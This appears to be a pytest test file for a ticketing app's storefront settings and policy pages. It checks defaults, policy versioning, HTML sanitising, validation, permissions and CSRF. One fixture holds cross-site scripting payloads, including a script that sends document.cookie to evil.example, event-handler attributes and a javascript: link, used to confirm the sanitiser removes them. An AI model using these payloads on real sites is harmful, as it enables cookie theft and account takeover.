"""Settings > Storefront and the public policy pages, through HTTP with the real app: defaults, versions
kept for every change and only for real ones, sanitised policies, refused input, who may save. The
marketing questions are saved from Marketing > Settings (test_marketing_settings.py)."""

from __future__ import annotations

import asyncio
import json

import httpx
import pytest

from boxoffice.auth.tables import AuditEntry
from boxoffice.marketing.questions import current_question
from boxoffice.marketing.tables import ConsentQuestion, QuestionKind
from boxoffice.venue import policies
from boxoffice.venue import settings as venue_settings
from boxoffice.venue.tables import PolicyDocument, SiteSetting
from tests.support import staff as support
from tests.support.forms import FormReader
from tests.support.staff import make_staff, post_form, sign_in

PAGE = "/backoffice/settings/storefront"
SETTINGS_ACTIONS = ("settings.storefront_updated", "policy.published", "consent_question.changed")


async def page_form(client: httpx.AsyncClient, **changes: str | None) -> dict[str, str]:
    """The settings form as the page shows it, with `changes` typed in (None unticks a checkbox)."""
    page = await client.get(PAGE)
    assert page.status_code == 200, page.text
    reader = FormReader()
    reader.feed(page.text)
    form = {**reader.fields, **changes}
    return {name: value for name, value in form.items() if value is not None}


async def save(client: httpx.AsyncClient, **changes: str | None) -> httpx.Response:
    return await post_form(client, PAGE, await page_form(client, **changes))


async def audit_rows(*actions: str) -> list[dict]:
    return (
        await AuditEntry.select(
            AuditEntry.action, AuditEntry.object_type, AuditEntry.detail, AuditEntry.actor
        )
        .where(AuditEntry.action.is_in(list(actions or SETTINGS_ACTIONS)))
        .order_by(AuditEntry.id)
    )


async def stored_rows() -> tuple[list, list, list]:
    return (
        await SiteSetting.select().order_by(SiteSetting.id),
        await ConsentQuestion.select().order_by(ConsentQuestion.id),
        await PolicyDocument.select().order_by(PolicyDocument.id),
    )


@pytest.fixture
async def admin(client: httpx.AsyncClient) -> support.TestStaff:
    staff = await make_staff("admin", name="Ada Admin")
    await sign_in(client, staff)
    return staff


async def test_the_defaults_are_in_effect_before_anything_is_saved(client, admin):
    page = await client.get(PAGE)
    assert page.status_code == 200

    current = await venue_settings.storefront_settings()
    assert (current.hold_minutes, current.max_tickets_per_order, current.reservation_lapse_hours) == (
        15,
        10,
        2,
    )
    assert current.pay_at_box_office is True
    online, box_office = (
        await current_question(QuestionKind.ONLINE),
        await current_question(QuestionKind.BOX_OFFICE),
    )
    assert online.version == 1 and online.enabled
    assert online.text == "Yes, please e-mail me about upcoming shows, events and offers."
    assert box_office.version == 1 and box_office.enabled
    assert box_office.text == (
        "The customer agreed to hear about upcoming shows, events and offers by e-mail."
    )
    form = await page_form(client)
    assert form["hold_minutes"] == "15" and form["max_tickets_per_order"] == "10"
    assert form["reservation_lapse_hours"] == "2"
    assert form["pay_at_box_office"] == "yes"
    assert not {name for name in form if "question" in name}  # set under Marketing > Settings
    for kind in ("terms", "privacy"):
        policy = await policies.current_policy(kind)
        assert policy.version == 1 and "should replace" in policy.html
        assert form[f"{kind}_html"] == policy.html
    assert await ConsentQuestion.count() == 2 and await PolicyDocument.count() == 2

    terms = await client.get("/terms")
    assert terms.status_code == 200
    assert "Terms and conditions" in terms.text and "Version 1, published" in terms.text
    assert "The venue should replace them with its own" in terms.text
    privacy = await client.get("/privacy")
    assert "Privacy policy" in privacy.text and "naming itself as the data controller" in privacy.text


async def test_an_unchanged_save_adds_no_versions_and_no_audit_entries(client, admin):
    form = await page_form(client)
    before = await stored_rows()

    response = await post_form(client, PAGE, form)

    assert response.status_code == 303, response.text
    assert response.headers["location"] == "/backoffice/settings/storefront?done=saved"
    assert await stored_rows() == before
    assert await audit_rows() == []
    assert "The storefront settings have been saved." in (await client.get(response.headers["location"])).text


async def test_checkout_numbers_are_saved_and_audited_without_new_versions(client, admin):
    for kind in QuestionKind:  # version 1 of each question, as checkout and the counter create it
        await current_question(kind)

    response = await save(
        client,
        hold_minutes="20",
        max_tickets_per_order="6",
        reservation_lapse_hours="0",
        pay_at_box_office=None,
    )

    assert response.status_code == 303, response.text
    current = await venue_settings.storefront_settings()
    assert (current.hold_minutes, current.max_tickets_per_order, current.reservation_lapse_hours) == (
        20,
        6,
        0,
    )
    assert current.pay_at_box_office is False
    [entry] = await audit_rows()
    assert entry["action"] == "settings.storefront_updated" and entry["actor"] == admin.id
    assert json.loads(entry["detail"]) == {
        "changed": {
            "hold_minutes": 20,
            "max_tickets_per_order": 6,
            "pay_at_box_office": False,
            "reservation_lapse_hours": 0,
        }
    }
    assert await ConsentQuestion.count() == 2 and await PolicyDocument.count() == 2

    await save(client, hold_minutes="25")
    assert (await venue_settings.storefront_settings()).hold_minutes == 25
    assert await SiteSetting.count() == 4  # updated in place


DANGEROUS_TERMS = """<h2 onclick="steal()">Refunds</h2>
<p style="color:red">No refunds, <strong>except</strong> for <a href="https://venue.example/help">cancelled</a>
shows.<script>document.location='https://evil.example/?'+document.cookie</script></p>
<p><a href="javascript:alert(1)">Click me</a> <img src="https://evil.example/pixel.png" onerror="steal()">
<a href="mailto:boxoffice@venue.example">Write to us</a></p>"""


async def test_policies_are_stored_and_shown_sanitised(client, admin):
    response = await save(client, terms_html=DANGEROUS_TERMS)

    assert response.status_code == 303, response.text
    [version_1, version_2] = (
        await PolicyDocument.select().where(PolicyDocument.kind == "terms").order_by(PolicyDocument.version)
    )
    assert "should replace" in version_1["body_html"]
    stored = version_2["body_html"]
    assert version_2["version"] == 2 and version_2["published_by"] == admin.id
    for removed in (
        "<script",
        "document.cookie",
        "onclick",
        "onerror",
        "style=",
        "javascript:",
        "<img",
        "pixel",
    ):
        assert removed not in stored
    assert "<h2>Refunds</h2>" in stored and "<strong>except</strong>" in stored
    assert '<a href="https://venue.example/help" rel="noopener noreferrer">cancelled</a>' in stored
    assert '<a href="mailto:boxoffice@venue.example" rel="noopener noreferrer">Write to us</a>' in stored
    [entry] = await audit_rows("policy.published")
    assert json.loads(entry["detail"]) == {"kind": "terms", "version": 2}

    page = (await client.get("/terms")).text
    assert "<strong>except</strong>" in page and "Version 2, published" in page
    for removed in ("document.cookie", "onclick", "javascript:", "pixel.png"):
        assert removed not in page

    await save(client)  # the sanitised text shown in the form comes back unchanged
    assert await PolicyDocument.count() == 3


async def test_the_policy_pages_show_the_current_version_or_an_earlier_one(client, admin):
    await save(client, privacy_html="<p>We keep your data safe (second edition).</p>")
    await save(client, privacy_html="<p>We keep your data safe (third edition).</p>")

    current = await client.get("/privacy")
    assert current.status_code == 200
    assert "third edition" in current.text and "Version 3, published" in current.text
    assert "earlier version" not in current.text

    first = await client.get("/privacy", params={"version": "1"})
    assert first.status_code == 200
    assert "Version 1, published" in first.text and "naming itself as the data controller" in first.text
    assert "This is an earlier version." in first.text and 'href="/privacy"' in first.text
    assert "second edition" in (await client.get("/privacy", params={"version": "2"})).text
    assert "third edition" in (await client.get("/privacy", params={"version": "3"})).text

    for unknown in ("4", "0", "-1", "99999999999"):
        assert (await client.get("/privacy", params={"version": unknown})).status_code == 404
    assert (await client.get("/terms", params={"version": "2"})).status_code == 404
    assert (await client.get("/terms", params={"version": "1"})).status_code == 200

    history = (await client.get(PAGE)).text
    for version in (1, 2, 3):
        assert f'href="/privacy?version={version}"' in history


async def test_the_policy_pages_work_for_visitors_before_any_staff_visit(client):
    response = await client.get("/terms")
    assert response.status_code == 200 and "Version 1, published" in response.text
    assert await PolicyDocument.count() == 1


async def test_first_readers_at_once_create_a_single_version_1(database):
    versions = await asyncio.gather(*[policies.current_policy("terms") for _ in range(6)])
    questions = await asyncio.gather(*[current_question(kind) for _ in range(6) for kind in QuestionKind])

    assert {policy.version for policy in versions} == {1}
    assert await PolicyDocument.count() == 1
    assert {question.id for question in questions if question.kind == questions[0].kind} == {questions[0].id}
    assert await ConsentQuestion.count() == 2


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"hold_minutes": "4"}, "hold_minutes", "Enter a number of minutes from 5 to 60."),
        ({"hold_minutes": "61"}, "hold_minutes", "Enter a number of minutes from 5 to 60."),
        ({"hold_minutes": "ten"}, "hold_minutes", "Enter a number of minutes from 5 to 60."),
        ({"hold_minutes": ""}, "hold_minutes", "Enter a number of minutes from 5 to 60."),
        ({"max_tickets_per_order": "0"}, "max_tickets_per_order", "Enter a number of tickets from 1 to 50."),
        ({"max_tickets_per_order": "51"}, "max_tickets_per_order", "Enter a number of tickets from 1 to 50."),
        (
            {"reservation_lapse_hours": "169"},
            "reservation_lapse_hours",
            "Enter a number of hours from 0 to 168.",
        ),
        (
            {"reservation_lapse_hours": "-1"},
            "reservation_lapse_hours",
            "Enter a number of hours from 0 to 168.",
        ),
        (
            {"terms_html": "<script>alert(1)</script><img src=x>"},
            "terms_html",
            "Enter the terms and conditions.",
        ),
        ({"privacy_html": "  "}, "privacy_html", "Enter the privacy policy."),
    ],
)
async def test_refused_input_re_renders_with_the_message_and_saves_nothing(
    client, admin, changes, field, message
):
    valid_changes = {
        "hold_minutes": "30",
        "privacy_html": "<p>Changed privacy</p>",
        "terms_html": "<p>New</p>",
    }
    form = await page_form(client, **{**valid_changes, **changes})
    before = await stored_rows()

    response = await post_form(client, PAGE, form)

    assert response.status_code == 400
    assert f'<p class="error" id="error-{field}">{message}</p>' in response.text
    assert 'aria-invalid="true"' in response.text
    assert await stored_rows() == before
    assert await audit_rows() == []
    if field != "hold_minutes":
        assert 'value="30"' in response.text  # what was typed is shown again


async def test_several_problems_are_reported_together(client, admin):
    response = await save(client, hold_minutes="0", max_tickets_per_order="100", privacy_html="")

    assert response.status_code == 400
    for field in ("hold_minutes", "max_tickets_per_order", "privacy_html"):
        assert f'id="error-{field}"' in response.text
    assert "There is a problem" in response.text


async def test_staff_without_the_permission_can_neither_open_nor_save_the_settings(client):
    door = await make_staff("door_staff", enrolled=False)
    await sign_in(client, door)

    assert (await client.get(PAGE)).status_code == 403
    refused = await post_form(
        client,
        PAGE,
        {"hold_minutes": "30", "terms_html": "<p>Door terms</p>"},
        form_page="/backoffice/checkin",
    )

    assert refused.status_code == 403
    assert (await venue_settings.storefront_settings()).hold_minutes == 15
    assert (await policies.current_policy("terms")).version == 1
    assert await audit_rows() == []


async def test_saving_needs_the_csrf_token(client, admin):
    form = await page_form(client, hold_minutes="30", terms_html="<p>Forged terms</p>")

    missing = await client.post(PAGE, data=form)
    forged = await client.post(PAGE, data={**form, "_csrf_token": "forged"})

    assert missing.status_code == forged.status_code == 403
    assert (await venue_settings.storefront_settings()).hold_minutes == 15
    assert (await policies.current_policy("terms")).version == 1
    assert await audit_rows() == []


async def test_the_service_refuses_out_of_range_values_itself(database):
    changes = venue_settings.StorefrontChanges(
        house_name="Town Hall",
        hold_minutes=15,
        max_tickets_per_order=10,
        pay_at_box_office=True,
        reservation_lapse_hours=500,
        thermal_tickets=False,
        terms_html="<p>Terms</p>",
        privacy_html="<p>Privacy</p>",
    )
    with pytest.raises(venue_settings.SettingsRefused) as refusal:
        await venue_settings.save_storefront_settings(changes, actor_id=1, ip="127.0.0.1")
    assert refusal.value.problems == {"reservation_lapse_hours": "Enter a number of hours from 0 to 168."}
    assert await SiteSetting.count() == 0 and await PolicyDocument.count() == 0


async def test_thermal_ticket_stock_is_a_setting_that_is_kept(client, admin):
    assert (await venue_settings.storefront_settings()).thermal_tickets is False

    response = await save(client, thermal_tickets="yes")

    assert response.status_code == 303
    assert (await venue_settings.storefront_settings()).thermal_tickets is True
    assert await AuditEntry.exists().where(AuditEntry.action == "settings.storefront_updated")


async def test_the_venues_name_is_a_setting_that_heads_every_staff_page(client, admin):
    form = await page_form(client)

    saved = await post_form(client, PAGE, {**form, "house_name": "  The   Old Vic  "})
    too_long = await post_form(client, PAGE, {**form, "house_name": "x" * 101})

    assert saved.status_code == 303
    assert (await venue_settings.storefront_settings()).house_name == "The Old Vic"
    assert too_long.status_code == 400
    assert "Use at most 100 characters for the venue" in too_long.text
    assert (await venue_settings.house_name()) == "The Old Vic"
    header = (await client.get("/backoffice/")).text.split("</header>")[0]
    assert '<span class="house">The Old Vic</span>' in header
